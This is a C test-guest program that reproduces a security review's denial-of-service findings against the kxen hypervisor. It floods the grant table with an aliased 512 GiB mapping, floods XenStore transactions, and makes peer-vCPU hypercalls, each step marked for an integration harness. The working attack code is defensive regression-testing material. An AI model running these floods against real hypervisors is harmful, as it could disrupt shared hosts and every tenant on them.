/* Test guest "hostile-dos": the review's denial-of-service findings against kxen, one per
 * command-line word, each announced by a "hostile-dos: ..." marker line on the PV console that
 * the integration case acts on (SIGUSR1, RSS samples, SIGTERM). It never ends by itself except
 * for vcpu-peer, which powers off.
 *   gnttab-copy  (64-bit) one GNTTABOP_copy of 2^31 - 1 operations on page tables that alias
 *                512 GiB of virtual addresses onto one page
 *   xs-tx-write  10,000 writes of one node inside one XenStore transaction
 *   xs-enospc    10,000 create + remove pairs of new nodes in one transaction past the quota
 *   vcpu-peer    VCPUOP_get_runstate_info and register_vcpu_info naming vCPU 1 first thing */
#include "../xen-abi/abi.h"
#include "../xen-abi/xs_client.h"
#include "rt_layout.h"
#include <xen/sched.h>
#include <xen/vcpu.h>

#define FLOOD_REQUESTS 10000u

static void marker(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void marker(const char *fmt, ...)
{
    char line[256];
    va_list ap;
    va_start(ap, fmt);
    rt_vsnprintf(line, sizeof(line), fmt, ap);
    va_end(ap);
    xen_console_printf("hostile-dos: %s\n", line);
}

static __attribute__((noreturn)) void idle_forever(void)
{
    for (;;)
        xen_yield();
}

#ifdef __x86_64__
/* PML4 slot 1 (512 GiB from ALIAS_VA): every entry of every level points at the same next
 * table, so each virtual page there is the one physical page alias_page. */
#define ALIAS_VA 0x0000008000000000UL
static uint64_t alias_pdpt[512] __attribute__((aligned(4096)));
static uint64_t alias_pd[512] __attribute__((aligned(4096)));
static uint64_t alias_pt[512] __attribute__((aligned(4096)));
static uint8_t alias_page[4096] __attribute__((aligned(4096)));

static void map_alias(void)
{
    uint64_t cr3;
    __asm__ volatile("mov %%cr3, %0" : "=r"(cr3));
    /* The runtime identity-maps the first 4 GiB, its page tables included. */
    uint64_t *pml4 = (uint64_t *)(uintptr_t)(cr3 & ~0xfffUL);
    for (unsigned i = 0; i < 512; ++i) {
        alias_pdpt[i] = (uintptr_t)alias_pd | RT_PTE_PRESENT_RW;
        alias_pd[i] = (uintptr_t)alias_pt | RT_PTE_PRESENT_RW;
        alias_pt[i] = (uintptr_t)alias_page | RT_PTE_PRESENT_RW;
    }
    /* All-ones copy operations: grant refs of domain 0xffff, which fail at once. */
    for (unsigned i = 0; i < sizeof(alias_page); ++i)
        alias_page[i] = 0xff;
    pml4[1] = (uintptr_t)alias_pdpt | RT_PTE_PRESENT_RW;
    __asm__ volatile("mov %0, %%cr3" : : "r"(cr3) : "memory");
}

static void gnttab_copy_flood(void)
{
    map_alias();
    marker("gnttab-copy: one GNTTABOP_copy of 2147483647 operations on one aliased page");
    long rc = xen_grant_table_op(GNTTABOP_copy, (void *)ALIAS_VA, 0x7fffffffu);
    marker("gnttab-copy: returned %ld", rc);
}
#else
static void gnttab_copy_flood(void)
{
    abi_fail("gnttab-copy needs the 64-bit guest (page tables above 4 GiB)");
}
#endif

static uint32_t start_transaction(void)
{
    struct xs_payload p;
    static struct xs_reply reply;
    xs_payload_init(&p);
    xs_arg(&p, "");
    xs_request(XS_TRANSACTION_START, 0, &p, &reply);
    expect_eq(reply.type, XS_TRANSACTION_START, "XS_TRANSACTION_START succeeds");
    return (uint32_t)parse_decimal(reply.body);
}

/* Sends one request in `tx` and says whether it was answered with success. */
static int request_ok(uint32_t type, uint32_t tx, const char *path, const char *value)
{
    struct xs_payload p;
    static struct xs_reply reply;
    xs_payload_init(&p);
    if (value) {
        xs_arg(&p, path);
        xs_raw(&p, value);
    } else {
        xs_arg(&p, path);
    }
    xs_request(type, tx, &p, &reply);
    return reply.type != XS_ERROR;
}

static void xenstore_tx_write(void)
{
    xs_attach();
    uint32_t tx = start_transaction();
    marker("xs-tx-write: transaction %u open", tx);
    unsigned ok = 0;
    for (unsigned i = 0; i < FLOOD_REQUESTS; ++i)
        ok += (unsigned)request_ok(XS_WRITE, tx, "data/flood", "0123456789abcdef");
    marker("xs-tx-write: %u writes of one node, %u answered OK", FLOOD_REQUESTS, ok);
}

static void xenstore_enospc(void)
{
    xs_attach();
    uint32_t tx = start_transaction();
    marker("xs-enospc: transaction %u open", tx);
    unsigned ok = 0;
    char path[64];
    for (unsigned i = 0; i < FLOOD_REQUESTS; ++i) {
        rt_snprintf(path, sizeof(path), "data/n%u", i);
        ok += (unsigned)request_ok(XS_WRITE, tx, path, "x");
        request_ok(XS_RM, tx, path, 0);
    }
    marker("xs-enospc: %u creates and removes, %u creates answered OK", FLOOD_REQUESTS, ok);
}

static void vcpu_peer(void)
{
    static struct vcpu_runstate_info info;
    static struct vcpu_info peer_info_area[2] __attribute__((aligned(64)));
    struct vcpu_register_vcpu_info reg = {
        .mfn = (uint64_t)(uintptr_t)peer_info_area >> PAGE_SHIFT,
        .offset = (uint32_t)((uintptr_t)peer_info_area & (PAGE_SIZE - 1)),
    };
    long runstate = hypercall5(__HYPERVISOR_vcpu_op, VCPUOP_get_runstate_info, 1, (unsigned long)&info, 0, 0);
    long registered = hypercall5(__HYPERVISOR_vcpu_op, VCPUOP_register_vcpu_info, 1, (unsigned long)&reg, 0, 0);
    marker("vcpu-peer: get_runstate_info(1) = %ld, register_vcpu_info(1) = %ld", runstate, registered);
    xen_shutdown(SHUTDOWN_poweroff);
}

int main(void)
{
    if (hypercall_init() < 0)
        rt_fail("hypercall_init");
    if (rt_cmdline_has("vcpu-peer"))
        vcpu_peer();
    else if (rt_cmdline_has("gnttab-copy"))
        gnttab_copy_flood();
    else if (rt_cmdline_has("xs-tx-write"))
        xenstore_tx_write();
    else if (rt_cmdline_has("xs-enospc"))
        xenstore_enospc();
    else
        abi_fail("no attack named on the command line");
    marker("done");
    idle_forever();
}
